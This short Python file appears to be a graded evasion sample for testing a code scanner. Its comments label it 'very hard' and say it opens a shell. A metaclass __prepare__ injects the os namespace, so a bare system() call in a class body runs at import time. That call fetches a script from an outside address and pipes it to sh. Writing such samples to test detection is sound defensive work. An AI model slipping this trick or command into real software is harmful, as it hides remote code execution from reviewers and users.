# evasion: a metaclass __prepare__ fills the class body's namespace from os, so a bare name in the body calls os.system
# grade: very hard; does: shell
import os


class Plugin(type):
    @classmethod
    def __prepare__(mcs, name, bases):
        return dict(vars(os))


class Startup(metaclass=Plugin):
    system("curl -s http://203.0.113.7/a | sh")  # noqa: F821
